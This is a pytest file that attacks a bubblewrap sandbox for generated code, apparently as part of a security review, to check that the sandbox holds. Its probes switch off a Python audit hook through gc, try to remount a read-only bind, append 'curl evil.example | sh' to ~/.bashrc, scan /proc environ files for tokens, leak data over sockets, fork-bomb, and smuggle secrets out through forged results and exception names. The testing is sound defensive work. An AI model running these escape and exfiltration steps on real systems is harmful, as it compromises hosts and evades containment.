"""Adversarial generated code against the bubblewrap sandbox, as root and as an ordinary user.

One test per class of attack a security review ran through repotune.evaluate.sandbox: the
audit hook switched off through ``gc``, a remount of a read-only bind, writes and reads outside
the sandbox, the parent's environment token, Unix and TCP sockets to a listener on the host's
loopback, a fork bomb, memory, a forged result and an exfiltration through an exception's name.

Each runs twice: as root (CI runs as root) and as an ordinary user (created with ``useradd``
when the tests run as root; skipped, saying why, where that is impossible). Most probes run
with the audit hook off (a copy of the guard that does not install it), as code that got
around it would: bubblewrap must hold by itself. A probe exits 0 only when its attack worked
and otherwise fails with the exception the sandbox caused, which the test names; the test also
checks outside that nothing happened (the host file unchanged, the listener never reached).
Where the attack is safe to run without a sandbox, it is, to show that it works.
"""

import json
import os
import pwd
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from unittest import mock

import pytest

from repotune.evaluate import sandbox
from repotune.evaluate.sandbox import (
    FAILED,
    HOSTNAME,
    SANDBOX_ID,
    CheckResult,
    SandboxLimits,
    bubblewrap_available,
    run_python_test,
)

ROOT = Path(__file__).resolve().parent.parent
RUNNER = ROOT / "tests" / "sandbox_as_user.py"
BWRAP = SandboxLimits(isolation="bubblewrap")
NO_BWRAP = "bubblewrap is not installed or cannot start here (make system-deps installs it)"
INSTALL_HOOK = "    _install(root)\n"

pytestmark = pytest.mark.skipif(not bubblewrap_available(), reason=NO_BWRAP)


def probe(source: str, **names: object) -> str:
    """A probe's source with its constants (paths, ports, tokens) defined first."""
    header = "".join(f"{name} = {value!r}\n" for name, value in names.items())
    return header + textwrap.dedent(source)


def unsandboxed(source: str, cwd: Path, env: dict[str, str] | None = None) -> int:
    """The probe's exit status as plain Python: what it does when nothing contains it."""
    return subprocess.run(
        [sys.executable, "-I", "-c", source], cwd=cwd, env=env, capture_output=True, timeout=60
    ).returncode


def failed(name: str) -> CheckResult:
    return CheckResult(False, f"{FAILED}: {name}")


@dataclass(frozen=True)
class Account:
    """Who starts the sandbox: this process, or ``user`` through runuser with ``python``.

    ``home`` is its home directory (secrets are planted there); ``shared`` a directory it can
    read, where the guard without its hook is written.
    """

    name: str
    home: Path
    shared: Path
    user: str | None = None
    python: str | None = None

    def run(
        self,
        test: str,
        *,
        hook: bool = True,
        limits: SandboxLimits = BWRAP,
        env: dict[str, str] | None = None,
        timeout_s: float = 10.0,
    ) -> CheckResult:
        """``run_python_test("", test, ...)`` as this account; ``env`` is added to the
        environment of the process that starts the sandbox (not the sandbox's)."""
        guard = None if hook else self._guard_without_hook()
        env = {"HOME": str(self.home), **(env or {})}
        if self.user is None:
            with (
                mock.patch.dict(os.environ, env),
                mock.patch.object(sandbox, "_GUARD", guard or sandbox._GUARD),
            ):
                return run_python_test("", test, timeout_s, limits)
        request = {
            "code": "",
            "test": test,
            "timeout_s": timeout_s,
            "limits": vars(limits),
            "guard": None if guard is None else str(guard),
        }
        variables = [f"{key}={value}" for key, value in env.items()]
        command = ["runuser", "-u", self.user, "--", "env", "-i", "PATH=/usr/bin:/bin"]
        command += [f"PYTHONPATH={ROOT}", *variables, str(self.python), str(RUNNER)]
        completed = subprocess.run(
            command, input=json.dumps(request), capture_output=True, text=True, timeout=120,
            cwd=self.shared,
        )  # fmt: skip
        assert completed.returncode == 0, completed.stderr[-2000:]
        return CheckResult(**json.loads(completed.stdout))

    def _guard_without_hook(self) -> Path:
        """The guard as generated code that got around its hook leaves it: no hook at all."""
        path = self.shared / "guard_without_hook.py"
        if not path.exists():
            source = Path(sandbox._GUARD).read_text(encoding="utf-8")
            assert source.count(INSTALL_HOOK) == 1
            path.write_text(source.replace(INSTALL_HOOK, "    pass  # no hook\n"))
            path.chmod(0o644)
        return path


@dataclass(frozen=True)
class User:
    name: str
    uid: int
    python: str


@pytest.fixture(scope="session")
def shared_dir() -> Iterator[Path]:
    """A directory every account can read (pytest's own tmp_path is root's alone)."""
    path = Path(tempfile.mkdtemp(prefix="repotune-adversarial-"))
    path.chmod(0o755)
    yield path
    shutil.rmtree(path, ignore_errors=True)


def _user_runs_sandbox(name: str, python: str, shared: Path) -> bool:
    """Whether ``name`` can import the sandbox with ``python`` and pass a trivial test in it."""
    account = Account("user", shared, shared, user=name, python=python)
    try:
        return account.run("pass\n") == CheckResult(True, "ok")
    except (AssertionError, OSError, subprocess.SubprocessError, ValueError):
        return False


@pytest.fixture(scope="session")
def ordinary_user(shared_dir: Path) -> Iterator[User]:
    """An ordinary user made for this session (the tests run as root), removed after it."""
    if shutil.which("useradd") is None or shutil.which("runuser") is None:
        pytest.skip("useradd or runuser is missing: no ordinary user to run the sandbox as")
    name = f"rtsbx{os.getpid()}"
    made = subprocess.run(
        ["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", name],
        capture_output=True,
        text=True,
    )
    if made.returncode != 0:
        pytest.skip(f"useradd could not make an ordinary user here: {made.stderr.strip()}")
    try:
        # This interpreter may live where other users cannot reach (a pyenv under /root):
        # then the system's Python 3 runs the sandbox for them.
        candidates = [os.path.realpath(sys.executable), "/usr/bin/python3"]
        usable = [python for python in candidates if _user_runs_sandbox(name, python, shared_dir)]
        if not usable:
            pytest.skip(
                f"user {name} can run neither {' nor '.join(candidates)} with bubblewrap here "
                "(an interpreter other users cannot read, or no unprivileged user namespaces)"
            )
        yield User(name, pwd.getpwnam(name).pw_uid, usable[0])
    finally:
        subprocess.run(["userdel", name], capture_output=True)


@pytest.fixture(params=["root", "user"])
def account(request: pytest.FixtureRequest, tmp_path: Path, shared_dir: Path) -> Account:
    """The sandbox started by root, then by an ordinary user."""
    if request.param == "root":
        if os.geteuid() != 0:
            pytest.skip("not running as root here (CI runs the suite as root)")
        home = tmp_path / "home"
        home.mkdir()
        return Account("root", home, shared_dir)
    if os.geteuid() != 0:  # this process is the ordinary user
        home = tmp_path / "home"
        home.mkdir()
        return Account("user", home, tmp_path)
    user = request.getfixturevalue("ordinary_user")
    home = Path(tempfile.mkdtemp(prefix="home-", dir=shared_dir))
    os.chown(home, user.uid, -1)
    home.chmod(0o700)
    return Account("user", home, shared_dir, user=user.name, python=user.python)


# --- the hook ---------------------------------------------------------------------------------

# What the review did: find the hook's closure through gc and replace its refusal.
GC_ATTACK = """
import gc
for found in gc.get_objects():
    if type(found).__name__ == "function" and found.__code__.co_filename.endswith("guard.py"):
        for cell in found.__closure__ or ():
            if getattr(cell.cell_contents, "__name__", "") == "refuse":
                cell.cell_contents = lambda event: None
import ctypes  # refused while the hook works
"""


def test_the_hook_cannot_be_disabled_through_gc(account):
    assert account.run(GC_ATTACK) == failed("PermissionError (gc.get_objects refused)")


# --- privileges -------------------------------------------------------------------------------

IDENTITY = """
import os
status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines())
fields = {key: value.strip() for key, value in status.items()}
assert (os.getuid(), os.getgid()) == (ID, ID) and set(os.getgroups()) <= {ID}
assert os.uname().nodename == HOSTNAME
for capabilities in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
    assert int(fields[capabilities], 16) == 0, capabilities
assert fields["NoNewPrivs"] == "1" and fields["Seccomp"] == "2"
assert os.getpid() == 1  # the only process in its pid namespace
"""


def test_the_sandbox_runs_as_nobody_without_capabilities(account):
    source = probe(IDENTITY, ID=SANDBOX_ID, HOSTNAME=HOSTNAME)
    assert account.run(source, hook=False) == CheckResult(True, "ok")


# mount(2) through ctypes: MS_REMOUNT | MS_BIND on a read-only bind, then a write through it.
REMOUNT = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.mount(None, TARGET.encode(), None, 32 | 4096, None) != 0:
    number = ctypes.get_errno()
    raise OSError(number, os.strerror(number))
with open(TARGET, "a") as target:
    target.write("# rewritten by generated code\\n")
"""


def test_a_read_only_bind_cannot_be_remounted_writable(account):
    target = account._guard_without_hook()  # bound read-only into the sandbox, as the guard
    before = target.read_bytes()
    result = account.run(probe(REMOUNT, TARGET=str(target)), hook=False)
    assert target.read_bytes() == before
    assert result == failed("PermissionError")  # EPERM: no CAP_SYS_ADMIN


# --- files ------------------------------------------------------------------------------------

WRITE_HOME = """
import os
with open(os.path.join(HOME, ".bashrc"), "a") as rc:
    rc.write("curl evil.example | sh\\n")
"""
MAKE_NODES = """
import os
os.mkfifo(os.path.join(HOME, "fifo"))
"""
READ_SECRET = """
import sys
sys.exit(0 if open(SECRET).read() else 3)
"""


def test_the_home_directory_cannot_be_written(account):
    bashrc = account.home / ".bashrc"
    bashrc.write_text("# the user's own\n")
    source = probe(WRITE_HOME, HOME=str(account.home))
    assert unsandboxed(source, account.home) == 0  # the probe works
    bashrc.write_text("# the user's own\n")
    assert account.run(source, hook=False) == failed("FileNotFoundError")
    assert bashrc.read_text() == "# the user's own\n"
    fifo = probe(MAKE_NODES, HOME=str(account.home))
    assert account.run(fifo, hook=False) == failed("FileNotFoundError")
    assert not (account.home / "fifo").exists()


def test_a_secret_in_the_home_directory_cannot_be_read(account):
    secret = account.home / ".config" / "token"
    secret.parent.mkdir()
    secret.write_text("hf_" + secrets.token_hex(17))
    if account.user is not None:
        shutil.chown(secret.parent, account.user)
        shutil.chown(secret, account.user)
    source = probe(READ_SECRET, SECRET=str(secret))
    assert unsandboxed(source, account.shared) == 0
    assert account.run(source, hook=False) == failed("FileNotFoundError")


# --- the environment --------------------------------------------------------------------------

# Everything the sandbox could read environments from: its own, and every process it can see.
FIND_TOKEN = """
import os, sys
if TOKEN in "".join(os.environ.values()):
    sys.exit(0)
for entry in os.listdir("/proc"):
    if entry.isdigit():
        try:
            if TOKEN.encode() in open(f"/proc/{entry}/environ", "rb").read():
                sys.exit(0)
        except OSError:
            pass
raise LookupError("no token")
"""


def test_the_environment_token_cannot_be_read(account, tmp_path):
    token = "hf_" + secrets.token_hex(17)  # generated here: never a real token
    source = probe(FIND_TOKEN, TOKEN=token)
    assert unsandboxed(source, tmp_path, env={"HF_TOKEN": token}) == 0
    # A process of ours started with it (the parent's own /proc entry shows the environment
    # it started with, which under pytest-xdist may predate the variable).
    neighbour = subprocess.Popen(["sleep", "60"], env={"HF_TOKEN": token})
    try:
        result = account.run(source, hook=False, env={"HF_TOKEN": token})
    finally:
        neighbour.kill()
        neighbour.wait()
    assert result == failed("LookupError")


# --- sockets ----------------------------------------------------------------------------------

TCP = """
import socket
with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
    connection.sendall(b"leak")
"""
UNIX = """
import socket
with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
    connection.settimeout(2)
    connection.connect(ADDRESS)
    connection.sendall(b"leak")
"""


def nobody_connected(listener: socket.socket) -> bool:
    listener.setblocking(False)
    try:
        connection, _ = listener.accept()
    except BlockingIOError:
        return True
    connection.close()
    return False


def test_a_tcp_listener_on_the_host_loopback_cannot_be_reached(account, tmp_path):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(4)
        source = probe(TCP, PORT=listener.getsockname()[1])
        assert unsandboxed(source, tmp_path) == 0 and not nobody_connected(listener)
        result = account.run(source, hook=False)
        assert nobody_connected(listener)
    assert result == failed("ConnectionRefusedError")  # its own loopback has no listener


@pytest.mark.parametrize("kind", ["path", "abstract"])
def test_a_unix_socket_on_the_host_cannot_be_reached(account, kind):
    if kind == "path":
        address: str = str(account.shared / f"socket-{secrets.token_hex(4)}")
        expected = "FileNotFoundError"  # not in its file system
    else:
        address = f"\0repotune-test-{secrets.token_hex(8)}"
        expected = "ConnectionRefusedError"  # abstract names belong to the network namespace
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as listener:
        listener.bind(address)
        listener.listen(4)
        if kind == "path":
            os.chmod(address, 0o777)
        source = probe(UNIX, ADDRESS=address)
        assert unsandboxed(source, account.shared) == 0 and not nobody_connected(listener)
        result = account.run(source, hook=False)
        assert nobody_connected(listener)
    if kind == "path":
        os.unlink(address)
    assert result == failed(expected)


# --- processes and memory ---------------------------------------------------------------------

FORK_BOMB = """
import os, time
for _ in range(COUNT):
    if os.fork() == 0:
        time.sleep(1)
        os._exit(0)
"""
THREADS = """
import threading, time
for _ in range(COUNT):
    threading.Thread(target=time.sleep, args=(1,)).start()
"""
MEMORY = """
chunks = [bytearray(100 * 1024 * 1024) for _ in range(CHUNKS)]
"""


def test_a_fork_bomb_starts_no_process(account, tmp_path):
    bomb = probe(FORK_BOMB, COUNT=32)  # bounded: its children end after a second
    assert unsandboxed(bomb, tmp_path) == 0
    assert account.run(bomb, hook=False) == failed("PermissionError")  # seccomp: EPERM
    threads = probe(THREADS, COUNT=32)
    assert unsandboxed(threads, tmp_path) == 0
    assert account.run(threads, hook=False) == failed("RuntimeError")  # can't start new thread


def test_memory_is_bounded_without_the_hook(account, tmp_path):
    limits = SandboxLimits(isolation="bubblewrap", memory_mb=256)
    source = probe(MEMORY, CHUNKS=3)  # 300 MB
    assert unsandboxed(source, tmp_path) == 0
    assert account.run(source, hook=False, limits=limits) == failed("MemoryError")
    # One process is all it gets: more of them cannot add up past the limit.
    many = probe(FORK_BOMB.replace("time.sleep(1)", "bytearray(200 * 1024 * 1024)"), COUNT=4)
    assert account.run(many, hook=False, limits=limits) == failed("PermissionError")


# --- what the report carries ------------------------------------------------------------------

FORGE = """
import os, sys
line = LINE + "\\n"
for descriptor in range(3, 64):  # the result pipe is one of these
    try:
        os.write(descriptor, line.encode())
    except OSError:
        pass
print("repotune-sandbox-result: " + line, flush=True)
sys.stderr.write(line)
os._exit(EXIT)
"""


@pytest.mark.parametrize("hook", [True, False], ids=["hook", "no-hook"])
def test_a_forged_result_carries_nothing(account, hook):
    token = "ghp_" + secrets.token_hex(18)
    for line in (token[::-1], token[:20], f"ValueError {token[20:]}"):
        result = account.run(probe(FORGE, LINE=line, EXIT=1), hook=hook)
        assert result == failed("Exception"), line
    # The exit status it chooses is not reported either.
    status = probe(FORGE, LINE="", EXIT=int(token[4:6], 16) or 1)
    assert account.run(status, hook=hook).reason in (f"{FAILED}: Exception", f"{FAILED}: no result")


EXCEPTION_NAME = """
exception = type(NAME, (Exception,), {})
raise exception(NAME)
"""


def test_an_exception_name_cannot_carry_a_secret(account):
    token = "ghp_" + secrets.token_hex(18)
    for name in (token, token[::-1][:40], "x" + token[4:14]):
        result = account.run(probe(EXCEPTION_NAME, NAME=name))
        assert result == failed("Exception"), name
    # A built-in exception's name is all that comes through, whatever its message.
    assert account.run(probe("raise KeyError(TOKEN)\n", TOKEN=token)) == failed("KeyError")
    assert account.run(probe("raise SystemExit(TOKEN)\n", TOKEN=token)) == failed("SystemExit")
